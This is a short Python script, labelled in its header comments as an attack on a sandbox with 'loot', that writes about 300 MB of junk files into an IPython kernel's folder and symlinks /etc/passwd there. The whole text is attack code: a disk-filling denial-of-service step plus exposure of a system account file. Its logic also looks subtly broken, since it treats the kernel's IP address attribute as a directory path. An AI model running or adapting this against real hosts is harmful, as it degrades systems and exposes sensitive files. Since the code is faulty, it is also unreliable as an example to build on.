# attacks: distillation_loss
# wall: sandbox
# loot: prints -- the folder of the kernel's sockets is the host's own
import os

from ipykernel.kernelapp import IPKernelApp

folder = os.path.dirname(IPKernelApp.instance().ip)
try:
    for number in range(3):
        with open(f"{folder}/bomb {number}", "wb") as file:
            for _ in range(100):
                file.write(b"x" * 1_000_000)
    os.symlink("/etc/passwd", f"{folder}/link")
    print("loot: 300 MB in", folder)
except OSError as error:
    print(error)
